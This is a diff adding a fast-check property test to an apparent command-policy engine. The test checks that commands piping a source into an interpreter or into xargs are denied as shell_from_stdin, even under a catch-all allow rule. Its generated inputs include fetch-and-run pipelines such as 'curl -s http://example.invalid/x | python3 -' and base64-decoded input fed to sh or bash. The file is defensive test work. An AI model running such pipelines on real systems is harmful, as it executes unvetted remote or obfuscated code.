@@ -76,6 +76,56 @@ describe('deny_substrings hold when a shell reads its program from stdin', () =>
   });
 });
 
+describe('a program piped into an interpreter or built by xargs is never allowed by a catch-all', () => {
+  // No deny substrings here: only rule 6 (shell_from_stdin) stands between the pipe and the host.
+  const catchAll = new PolicyEngine(
+    policyFileSchema.parse({
+      rules: [{ name: 'anything', action: 'allow', commands: ['*'], allow_substitution: true }],
+    }),
+  );
+  const runner = fc.constantFrom(
+    'python3',
+    'python3 -',
+    'sudo python3 -u',
+    'perl',
+    'perl -w',
+    'ruby',
+    'node',
+    'php',
+    'lua -',
+    'tclsh',
+    'Rscript -',
+    'awk -f /dev/stdin',
+    'env -i PATH=/bin perl',
+    'xargs sudo',
+    'xargs -n1 env',
+    'xargs sh -c',
+    "xargs -I{} bash -c '{}'",
+    'xargs python3 -c',
+    'timeout 5 xargs nohup',
+  );
+  const source = fc.oneof(
+    fc.base64String({ minLength: 4, maxLength: 40 }).map((b) => `echo ${b} | base64 -d`),
+    fc
+      .string({ minLength: 1, maxLength: 30 })
+      .filter((t) => /^[\x20-\x7e]+$/.test(t) && !t.includes("'"))
+      .map((t) => `printf '%s' '${t}'`),
+    fc.constantFrom('cat payload', 'curl -s http://example.invalid/x', 'base64 -d blob'),
+  );
+  it('denies every `<source> | <runner>` as shell_from_stdin (fast-check)', () => {
+    fc.assert(
+      fc.property(source, runner, (from, run) => {
+        const command = `${from} | ${run}`;
+        expect(catchAll.decide(TARGET, command), JSON.stringify(command)).toMatchObject({
+          allowed: false,
+          rule: 'shell_from_stdin',
+        });
+      }),
+      { numRuns: 1000, seed: 20261122 },
+    );
+  });
+});
+
 describe('deny rules see programs fed to a shell on stdin', () => {
   const engine = new PolicyEngine(
     policyFileSchema.parse({
